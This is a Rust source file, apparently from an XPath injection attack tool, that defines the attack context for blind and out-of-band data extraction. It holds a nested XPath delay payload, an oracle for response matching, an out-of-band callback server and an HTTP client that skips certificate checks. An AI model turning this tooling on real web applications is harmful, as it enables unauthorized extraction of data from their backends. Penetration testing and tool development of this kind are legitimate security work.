//! Attack context: the immutable-by-replacement bundle threaded through an
//! attack. Every scoped refinement (session acquired, injection chosen, OOB
//! server started, threshold calibrated) produces a new value that inherits
//! the prior fields.

use crate::error::{Error, Result};
use crate::injections::Injection;
use crate::oob::OobServer;
use reqwest::header::{HeaderMap, HeaderName, HeaderValue};
use serde::{Deserialize, Serialize};
use std::collections::HashMap;
use std::fmt;
use std::sync::{Arc, Mutex};
use std::time::Duration;
use tokio::sync::Semaphore;

/// Where the request parameters are sent
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Encoding {
    /// Parameters in the URL query string (an optional raw body may ride along)
    Url,
    /// Parameters as a form-encoded POST body
    Form,
}

/// Oracle verdict over an HTTP response: `(status, body) -> bool`
pub type MatchFn = Arc<dyn Fn(u16, &str) -> bool + Send + Sync>;

/// Outgoing request arguments, handed to the tamper hook before send
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct RequestArgs {
    /// Parameters in send order (query string or form body depending on encoding)
    pub params: Vec<(String, String)>,
    /// Raw request body, if any
    #[serde(skip_serializing_if = "Option::is_none")]
    pub body: Option<Vec<u8>>,
}

/// Hook that may rewrite outgoing request args in place
#[async_trait::async_trait]
pub trait Tamper: Send + Sync {
    async fn tamper(&self, context: &AttackContext, args: &mut RequestArgs) -> Result<()>;
}

/// Frequency counters used to prioritize guess order during extraction.
/// Written only by the orchestrating task when folding results.
#[derive(Debug, Default)]
pub struct Counters {
    strings: HashMap<String, u64>,
    characters: HashMap<char, u64>,
}

impl Counters {
    pub fn record_string(&mut self, s: &str) {
        *self.strings.entry(s.to_string()).or_insert(0) += 1;
    }

    pub fn record_char(&mut self, c: char) {
        *self.characters.entry(c).or_insert(0) += 1;
    }

    /// Strings seen so far, most frequent first (ties broken lexically so
    /// the order is deterministic)
    pub fn common_strings(&self) -> Vec<String> {
        let mut entries: Vec<_> = self.strings.iter().collect();
        entries.sort_by(|a, b| b.1.cmp(a.1).then_with(|| a.0.cmp(b.0)));
        entries.into_iter().map(|(s, _)| s.clone()).collect()
    }

    /// Characters seen so far, most frequent first
    pub fn common_characters(&self) -> Vec<char> {
        let mut entries: Vec<_> = self.characters.iter().collect();
        entries.sort_by(|a, b| b.1.cmp(a.1).then_with(|| a.0.cmp(b.0)));
        entries.into_iter().map(|(c, _)| *c).collect()
    }
}

/// Build the nested `count()` expression that causes computational delay.
/// Nesting 1 is `count((//.))`; each further level wraps the previous
/// payload in a predicate. Valid XPath 1.0.
pub fn make_delay_payload(nesting: u32) -> String {
    let mut payload = "count((//.))".to_string();
    for _ in 1..nesting {
        payload = format!("count((//.)[{}])", payload);
    }
    payload
}

/// Build a match function from the CLI oracle definition. Each component is
/// `(value, negated)`; the verdict is the conjunction of the provided
/// components.
pub fn make_match_function(
    true_code: Option<(u16, bool)>,
    true_string: Option<(String, bool)>,
) -> MatchFn {
    Arc::new(move |status, body| {
        let mut verdict = true;
        if let Some((code, negated)) = true_code {
            verdict &= (status == code) != negated;
        }
        if let Some((ref needle, negated)) = true_string {
            verdict &= body.contains(needle.as_str()) != negated;
        }
        verdict
    })
}

/// The attack context. Cheap to clone; refinement methods return a new
/// value. Request primitives live in [`crate::request`].
#[derive(Clone)]
pub struct AttackContext {
    pub url: String,
    pub method: String,
    pub target_parameter: String,
    /// Parameters in send order; the target parameter must be among them
    pub parameters: Vec<(String, String)>,
    pub match_fn: MatchFn,
    pub concurrency: usize,
    pub fast_mode: bool,
    pub inband: bool,
    pub time_based: bool,
    pub time_delay_expr: Option<String>,
    pub time_threshold: f64,
    pub body: Option<Vec<u8>>,
    pub headers: Vec<(String, String)>,
    pub encoding: Encoding,
    /// `host:port` to listen on for OOB attacks, empty when disabled
    pub oob_details: Option<String>,
    pub tamper: Option<Arc<dyn Tamper>>,
    /// Feature flags, default-false; populated after feature probing
    pub features: HashMap<String, bool>,
    pub counters: Arc<Mutex<Counters>>,
    pub injection: Option<Injection>,
    pub(crate) session: Option<reqwest::Client>,
    pub(crate) semaphore: Option<Arc<Semaphore>>,
    /// Base URL the victim should call back to, only inside the OOB scope
    pub oob_host: Option<String>,
    pub(crate) oob_server: Option<Arc<OobServer>>,
}

impl AttackContext {
    /// Construct an unstarted context. `concurrency` must be positive;
    /// time-based mode forces it to 1 because parallel requests would
    /// invalidate per-request timing.
    #[allow(clippy::too_many_arguments)]
    pub fn new(
        url: impl Into<String>,
        method: impl Into<String>,
        target_parameter: impl Into<String>,
        parameters: Vec<(String, String)>,
        match_fn: MatchFn,
        concurrency: usize,
        encoding: Encoding,
    ) -> Self {
        Self {
            url: url.into(),
            method: method.into(),
            target_parameter: target_parameter.into(),
            parameters,
            match_fn,
            concurrency: concurrency.max(1),
            fast_mode: false,
            inband: false,
            time_based: false,
            time_delay_expr: None,
            time_threshold: 0.0,
            body: None,
            headers: Vec::new(),
            encoding,
            oob_details: None,
            tamper: None,
            features: HashMap::new(),
            counters: Arc::new(Mutex::new(Counters::default())),
            injection: None,
            session: None,
            semaphore: None,
            oob_host: None,
            oob_server: None,
        }
    }

    pub fn with_fast_mode(mut self, fast: bool) -> Self {
        self.fast_mode = fast;
        self
    }

    pub fn with_inband(mut self, inband: bool) -> Self {
        self.inband = inband;
        self
    }

    /// Enable time-based mode with the given delay expression. Forces
    /// concurrency to 1.
    pub fn with_time_based(mut self, delay_expr: String) -> Self {
        self.time_based = true;
        self.time_delay_expr = Some(delay_expr);
        self.concurrency = 1;
        self
    }

    pub fn with_time_threshold(mut self, threshold: f64) -> Self {
        self.time_threshold = threshold;
        self
    }

    pub fn with_body(mut self, body: Option<Vec<u8>>) -> Self {
        self.body = body;
        self
    }

    pub fn with_headers(mut self, headers: Vec<(String, String)>) -> Self {
        self.headers = headers;
        self
    }

    pub fn with_oob_details(mut self, details: Option<String>) -> Self {
        self.oob_details = details;
        self
    }

    pub fn with_tamper(mut self, tamper: Option<Arc<dyn Tamper>>) -> Self {
        self.tamper = tamper;
        self
    }

    pub fn with_injection(mut self, injection: Injection) -> Self {
        self.injection = Some(injection);
        self
    }

    /// Force a feature flag (CLI `--enable` / `--disable`)
    pub fn set_feature(&mut self, name: &str, enabled: bool) {
        self.features.insert(name.to_string(), enabled);
    }

    /// Feature lookup with the default-false semantics
    pub fn feature(&self, name: &str) -> bool {
        self.features.get(name).copied().unwrap_or(false)
    }

    /// The original benign value of the target parameter
    pub fn target_parameter_value(&self) -> &str {
        self.parameters
            .iter()
            .find(|(k, _)| k == &self.target_parameter)
            .map(|(_, v)| v.as_str())
            .unwrap_or_default()
    }

    /// Acquire a session: builds the shared HTTP client and the request
    /// semaphore, optionally selecting an injection. The returned context
    /// is the only one requests may be sent through.
    ///
    /// TLS verification is disabled: this is an offensive tool and victim
    /// certificates are routinely self-signed. Concurrency is bounded by
    /// the semaphore, not the connection pool; pool-level limits have been
    /// observed to deadlock under fan-out.
    pub fn start(&self, injection: Option<Injection>) -> Result<AttackContext> {
        if self.session.is_some() {
            return Err(Error::SessionActive);
        }
        url::Url::parse(&self.url)?;

        let timeout = if self.time_based {
            Duration::from_secs(120)
        } else {
            Duration::from_secs(30)
        };

        let mut header_map = HeaderMap::new();
        for (name, value) in &self.headers {
            let name = HeaderName::from_bytes(name.as_bytes())
                .map_err(|_| Error::Header(name.clone()))?;
            let value = HeaderValue::from_str(value)
                .map_err(|_| Error::Header(value.clone()))?;
            header_map.insert(name, value);
        }

        let client = reqwest::Client::builder()
            .default_headers(header_map)
            .danger_accept_invalid_certs(true)
            .cookie_store(true)
            .timeout(timeout)
            .build()?;

        let mut ctx = self.clone();
        ctx.session = Some(client);
        ctx.semaphore = Some(Arc::new(Semaphore::new(self.concurrency)));
        if injection.is_some() {
            ctx.injection = injection;
        }
        Ok(ctx)
    }

    /// Start the transient OOB server from `oob_details` and return the
    /// refined context plus the server handle. The caller owns teardown;
    /// the handle aborts the serve task on drop as a backstop.
    pub async fn start_oob_server(&self) -> Result<(AttackContext, Arc<OobServer>)> {
        if self.oob_server.is_some() {
            return Err(Error::OobAlreadyStarted);
        }
        let details = self
            .oob_details
            .as_deref()
            .filter(|d| !d.is_empty())
            .ok_or(Error::OobNotConfigured)?;

        let (host, port) = details
            .split_once(':')
            .ok_or_else(|| Error::OobAddress(details.to_string()))?;
        let port: u16 = port
            .parse()
            .map_err(|_| Error::OobAddress(details.to_string()))?;

        let public_base = format!("http://{}:{}", host, port);
        let server = Arc::new(OobServer::bind(port, public_base.clone()).await?);

        let mut ctx = self.clone();
        ctx.oob_host = Some(public_base);
        ctx.oob_server = Some(server.clone());
        Ok((ctx, server))
    }

    pub(crate) fn session(&self) -> Result<&reqwest::Client> {
        self.session.as_ref().ok_or(Error::NoSession)
    }

    pub(crate) fn semaphore(&self) -> Result<&Arc<Semaphore>> {
        self.semaphore.as_ref().ok_or(Error::NoSession)
    }

    pub fn oob_server(&self) -> Option<&Arc<OobServer>> {
        self.oob_server.as_ref()
    }
}

impl fmt::Debug for AttackContext {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("AttackContext")
            .field("url", &self.url)
            .field("method", &self.method)
            .field("target_parameter", &self.target_parameter)
            .field("concurrency", &self.concurrency)
            .field("encoding", &self.encoding)
            .field("time_based", &self.time_based)
            .field("inband", &self.inband)
            .field("injection", &self.injection.as_ref().map(|i| i.name))
            .finish()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_delay_payload_nesting() {
        assert_eq!(make_delay_payload(1), "count((//.))");
        assert_eq!(make_delay_payload(2), "count((//.)[count((//.))])");
        for k in 1..8 {
            let payload = make_delay_payload(k);
            assert_eq!(payload.matches("count((//.)").count(), k as usize);
        }
    }

    #[test]
    fn test_match_function_string() {
        let m = make_match_function(None, Some(("Kings".to_string(), false)));
        assert!(m(200, "found Kings here"));
        assert!(!m(200, "No results"));
    }

    #[test]
    fn test_match_function_negated_code() {
        let m = make_match_function(Some((404, true)), None);
        assert!(m(200, ""));
        assert!(!m(404, ""));
    }

    #[test]
    fn test_match_function_conjunction() {
        let m = make_match_function(Some((200, false)), Some(("ok".to_string(), false)));
        assert!(m(200, "ok"));
        assert!(!m(200, "nope"));
        assert!(!m(500, "ok"));
    }

    #[test]
    fn test_counters_order_most_common_first() {
        let mut c = Counters::default();
        c.record_char('a');
        c.record_char('b');
        c.record_char('b');
        assert_eq!(c.common_characters(), vec!['b', 'a']);

        c.record_string("Genesis");
        c.record_string("Genesis");
        c.record_string("Exodus");
        assert_eq!(c.common_strings(), vec!["Genesis", "Exodus"]);
    }

    #[test]
    fn test_semaphore_sized_to_concurrency() {
        let ctx = AttackContext::new(
            "http://example.test",
            "GET",
            "q",
            vec![("q".to_string(), "Bible".to_string())],
            make_match_function(Some((200, false)), None),
            7,
            Encoding::Url,
        );
        let started = ctx.start(None).expect("session");
        assert_eq!(
            started.semaphore().expect("semaphore").available_permits(),
            7
        );
        assert!(matches!(started.start(None), Err(Error::SessionActive)));
    }

    #[test]
    fn test_time_based_forces_single_concurrency() {
        let ctx = AttackContext::new(
            "http://example.test",
            "GET",
            "q",
            vec![("q".to_string(), "Bible".to_string())],
            make_match_function(None, Some(("x".to_string(), false))),
            10,
            Encoding::Url,
        )
        .with_time_based(make_delay_payload(3));
        assert_eq!(ctx.concurrency, 1);
        assert!(ctx.time_based);
    }
}
